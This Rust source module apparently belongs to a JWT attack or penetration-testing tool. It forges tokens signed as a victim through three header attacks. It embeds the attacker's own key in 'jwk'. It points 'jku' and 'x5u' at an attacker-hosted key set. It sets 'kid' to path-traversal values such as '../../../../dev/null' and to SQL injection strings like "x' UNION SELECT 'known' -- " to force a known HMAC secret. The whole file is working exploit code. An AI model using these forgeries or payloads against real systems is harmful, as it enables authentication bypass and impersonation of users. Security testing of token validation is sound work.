//! Headers that tell the server which key to believe: one that is brought along, one at an address, one at a path.

use serde_json::{Value, json};

use super::claims::as_victim;
use super::key::{OWN_KID, OwnKey};
use super::{Forged, NotApplicable, Sample, not_applicable};
use crate::inspect::decode::{Jws, Object, compact, signing_input};

/// Names of keys that lead to a content that everybody knows, and that content. The files are empty.
const KNOWN: [(&str, &[u8]); 7] = [
    ("../../../../dev/null", b""),
    ("../../../../../../../../dev/null", b""),
    ("/dev/null", b""),
    ("file:///dev/null", b""),
    ("NUL", b""),
    ("x' UNION SELECT 'known' -- ", b"known"),
    ("x\" UNION SELECT \"known\" -- ", b"known"),
];

/// The attacker's own key in the header, under a new key id and under the sample's: a server may look the id up before it
/// believes the key.
pub(super) fn embedded(sample: &Sample) -> Result<Vec<Forged>, NotApplicable> {
    let (token, payload) = (sample.token()?, as_victim(sample)?);
    let mut forged = Vec::new();
    for key in own_keys(&token) {
        for (kid, header) in named(&token) {
            let with_key = with(&header, "jwk", key.jwk());
            forged.push(Forged::new(format!("{} key in jwk, {kid}", key.alg()), key.sign(&with_key, &payload)));
        }
    }
    Ok(forged)
}

/// An address of the attacker's, where its own key lies.
pub(super) fn elsewhere(sample: &Sample) -> Result<Vec<Forged>, NotApplicable> {
    let (token, payload) = (sample.token()?, as_victim(sample)?);
    let none = || not_applicable("the attacker has no address of its own at which a key could be fetched");
    let url = sample.own_url.as_ref().ok_or_else(none)?;
    let mut forged = Vec::new();
    for key in own_keys(&token) {
        for (kid, header) in named(&token) {
            let Value::Object(mut jwk) = key.jwk() else { continue };
            jwk.extend([("kid".to_owned(), header["kid"].clone()), ("alg".to_owned(), key.alg().into())]);
            let publishes = Some(json!({ "keys": [jwk] }));
            for name in ["x5u", "jku"] {
                let credential = key.sign(&with(&header, name, url.as_str().into()), &payload);
                let variant = format!("{} key at {name}, {kid}", key.alg());
                forged.push(Forged { publishes: publishes.clone(), ..Forged::new(variant, credential) });
            }
        }
    }
    Ok(forged)
}

/// Key ids that are a path or a query: first with the HMAC of what is found there, then with the sample's own algorithm,
/// for a server that would look at the id only where that is the right one.
pub(super) fn path(sample: &Sample) -> Result<Vec<Forged>, NotApplicable> {
    let (token, payload) = (sample.token()?, as_victim(sample)?);
    let mut forged = Vec::new();
    for (kid, content) in KNOWN {
        let header = with(&token.header, "kid", kid.into());
        let credential = OwnKey::Secret(content.to_vec()).sign(&header, &payload);
        forged.push(Forged::new(format!("HS256, kid {kid:?}"), credential));
    }
    let alg = token.says("alg").unwrap_or_default();
    if alg != "HS256" {
        let header = with(&token.header, "kid", KNOWN[0].0.into());
        let credential = compact(&signing_input(&header, &payload), &token.signature);
        forged.push(Forged::new(format!("{alg}, kid {:?}, the old signature", KNOWN[0].0), credential));
    }
    Ok(forged)
}

/// Fresh keys of the attacker's: for what any server may know, and last for the sample's own algorithm, so that what stays
/// in the attacker's hands fails for its key alone. An RSA key takes long to make, so there is one only where RSA is
/// expected.
fn own_keys(token: &Jws) -> Vec<OwnKey> {
    let own = token.says("alg").unwrap_or_default();
    let others = ["EdDSA", "ES256"].into_iter().filter(|alg| *alg != own);
    others.chain([own]).filter_map(OwnKey::generate).collect()
}

/// The sample's header for a key of the attacker's, under a name of its own and under the server's.
fn named(token: &Jws) -> [(&'static str, Object); 2] {
    let new = with(&token.header, "kid", OWN_KID.into());
    let mut old = token.header.clone();
    old.entry("kid").or_insert_with(|| "".into());
    [("a new kid", new), ("the server's kid", old)]
}

fn with(header: &Object, name: &str, value: Value) -> Object {
    let mut header = header.clone();
    header.insert(name.to_owned(), value);
    header
}
